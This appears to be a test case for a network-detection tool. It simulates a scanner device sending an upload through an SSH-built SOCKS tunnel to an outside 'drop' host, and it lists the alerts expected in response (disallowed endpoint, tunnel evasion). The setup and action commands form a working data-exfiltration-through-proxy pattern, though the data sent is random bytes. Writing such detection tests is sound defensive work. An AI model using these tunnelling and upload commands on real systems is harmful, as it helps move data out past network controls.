says='scanner-1 sends a web upload through a SOCKS proxy outside'
twin=desk-upload
expected='
  endpoint.not-allowed scanner-1 | drop.othervendor.example socks/1080
  evasion.tunnel scanner-1 | drop.othervendor.example socks
'
prepare() {
  serve out socks ssh -F /dev/null -N -D 198.51.100.41:1080 -i "$work/user" -o BatchMode=yes \
    -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null root@203.0.113.20
  wait_port out 198.51.100.41 1080
}
act() {
  head -c 40000 /dev/urandom >"$work/piece"
  quiet on scanner1 curl --silent --max-time 10 --socks5 drop.othervendor.example:1080 \
    --data-binary "@$work/piece" http://203.0.113.41:443/ || true
}
